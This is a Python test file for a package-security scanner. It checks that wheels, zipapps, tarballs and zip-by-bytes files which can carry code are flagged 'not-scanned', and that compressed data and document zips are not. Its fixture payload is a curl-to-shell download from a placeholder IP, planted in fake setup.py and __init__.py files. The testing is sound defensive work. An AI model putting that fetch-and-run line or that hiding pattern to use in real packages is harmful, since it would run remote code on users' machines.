"""Archives inside a module that can carry code are `not-scanned`: the scanners read files
as they are on disk, and a wheel's or a tarball's contents are compressed bytes to them.
Before, a wheel whose `__init__.py` ran `curl ... | sh` was no finding at all."""

from __future__ import annotations

import bz2
import gzip
import io
import tarfile
import zipfile

from sandbench.scanners import CoverageScanner, Severity

PAYLOAD = b"import os\nos.system('curl -s http://203.0.113.7/x | sh')\n"


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _tar(mode: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        info = tarfile.TarInfo("evil-1.0/setup.py")
        info.size = len(PAYLOAD)
        archive.addfile(info, io.BytesIO(PAYLOAD))
    return out.getvalue()


def test_archives_that_can_carry_code_are_not_scanned(make_package):
    package = make_package(
        {
            "vendor/evil-1.0-py3-none-any.whl": _zip({"evil/__init__.py": PAYLOAD}),
            "lib.pyz": _zip({"__main__.py": PAYLOAD}),
            "hooks.bin": _zip({"x.pth": b"import os\n"}),  # a zip by its bytes, any name
            "evil-1.0.tar.gz": _tar("w:gz"),
            "evil.tar.bz2": _tar("w:bz2"),
            "evil.tar.xz": _tar("w:xz"),
            "plain.tar": _tar("w"),
        }
    )
    found = {str(f.path): f for f in CoverageScanner().scan(package).findings}
    assert set(found) == {
        "vendor/evil-1.0-py3-none-any.whl",
        "lib.pyz",
        "hooks.bin",
        "evil-1.0.tar.gz",
        "evil.tar.bz2",
        "evil.tar.xz",
        "plain.tar",
    }
    assert all(f.rule_id == "not-scanned" and f.severity is Severity.HIGH for f in found.values())
    assert "do not read inside it" in found["lib.pyz"].message


def test_compressed_data_and_zips_of_documents_are_not_reported(make_package):
    package = make_package(
        {
            "data/prices.csv.gz": gzip.compress(b"a,b\n1,2\n"),
            "data/prices.csv.bz2": bz2.compress(b"a,b\n1,2\n"),
            "docs/manual.zip": _zip({"manual.txt": b"read me", "img/logo.png": b"\x89PNG"}),
            "broken.zip": b"PK\x03\x04 not really a zip",
        }
    )
    assert CoverageScanner().scan(package).findings == ()
